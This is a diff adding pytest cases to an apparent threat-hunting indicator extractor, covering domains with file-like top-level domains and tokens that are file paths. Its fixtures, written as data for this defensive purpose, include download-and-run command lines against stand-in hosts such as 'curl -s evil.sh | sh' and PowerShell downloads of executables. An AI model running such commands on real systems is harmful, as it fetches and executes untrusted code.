@@ -105,3 +105,65 @@ def test_extraction_never_touches_the_network(monkeypatch, tmp_path):
                                         ("2001:4860:4860::8888", "public"), ("", "invalid"), ("x", "invalid")])
 def test_ip_kind(value, kind):
     assert ip_kind(value) == kind
+
+
+# A token is a file name where the command line uses it as one, whatever its top-level domain:
+# .zip, .mov, .sh and .py are real TLDs (.zip and .mov are used in phishing).
+KEPT_AS_DOMAINS = {
+    "host of a URL": ("http://evil.zip/x", "evil.zip"),
+    "https host with a port": ("powershell iwr https://login.mov:8443/a", "login.mov"),
+    "curl's host": ("curl evil.zip -o a.zip", "evil.zip"),
+    "curl's host in a shell's command": ('bash -c "curl -s evil.sh | sh"', "evil.sh"),
+    "Invoke-WebRequest -Uri": (r"powershell Invoke-WebRequest -Uri setup.mov -OutFile C:\t\setup.exe", "setup.mov"),
+    "a UNC server": (r"net use \\share.zip\drop", "share.zip"),
+    "after an @": ("ssh admin@jump.py", "jump.py"),
+    "a host switch of a script": (r'"C:\Python311\python.exe" -u run.py --host api.evil.py', "api.evil.py"),
+    "wget's host": ("wget -O out.zip http://dl.mov/a", "dl.mov"),
+    "BITS source": (r"Start-BitsTransfer -Source update.zip -Destination C:\t\u.exe", "update.zip"),
+    "host and also a file name": (r"curl http://evil.zip/x -o C:\t\evil.zip", "evil.zip"),
+}
+
+DROPPED_AS_FILES = {
+    "a Windows path": (r"C:\Users\a\payload.zip", "payload.zip"),
+    "a relative path": (r"python.exe .\script.py", "script.py"),
+    "a quoted path with spaces": (r'"C:\Program Files\a\b.py" -x', "b.py"),
+    "a POSIX path": ("tar -xf /tmp/a.zip", "a.zip"),
+    "a file in a URL's path": ("http://host.com/files/evil.zip", "evil.zip"),
+    "a UNC path's file": (r"cmd /c copy \\fs01\patches\fix.zip C:\t", "fix.zip"),
+    "a drive-relative path": (r"cmd /c C:evil.zip", "evil.zip"),
+    "an escaped path": (r"C:\\Users\\a\\b.zip", "b.zip"),
+    "a folder named like a domain": (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe", "Microsoft.NET"),
+    "the program": ("cmd.exe /c update.zip", "update.zip"),
+    "a script host's script": ("python -u script.py --x 1", "script.py"),
+    "a shell's script": ("sh install.sh", "install.sh"),
+    "-Path": (r"powershell Expand-Archive -Path payload.zip -DestinationPath C:\x", "payload.zip"),
+    "-OutFile": ("powershell iwr http://1.2.3.4/a -OutFile clip.mov", "clip.mov"),
+    "curl -o": ("curl http://1.2.3.4/a -o a.zip", "a.zip"),
+    "the start of a longer name": (r"powershell -File C:\Scripts\a.ps1", "a.ps"),
+}
+
+
+def _domains(text: str) -> set[str]:
+    found = extract_indicators([text])
+    return {v.lower() for v in found.loc[found["Type"] == "dns", "Value"]}
+
+
+@pytest.mark.parametrize("case", sorted(KEPT_AS_DOMAINS))
+def test_domains_with_file_like_tlds_are_kept(case):
+    text, domain = KEPT_AS_DOMAINS[case]
+    assert domain.lower() in _domains(text)
+
+
+@pytest.mark.parametrize("case", sorted(DROPPED_AS_FILES))
+def test_tokens_used_as_files_are_not_domains(case):
+    text, name = DROPPED_AS_FILES[case]
+    assert name.lower() not in _domains(text)
+
+
+def test_the_file_rule_looks_at_the_use_not_the_extractor():
+    """Every dropped case is one the extractor does report as a domain (else the test proves nothing)."""
+    from hunting_lib.triage.indicators import _offline_ioc_extractor
+
+    extractor = _offline_ioc_extractor()
+    for text, name in DROPPED_AS_FILES.values():
+        assert name.lower() in {v.lower() for v in extractor.extract(text, ioc_types=["dns"])["dns"]}, text
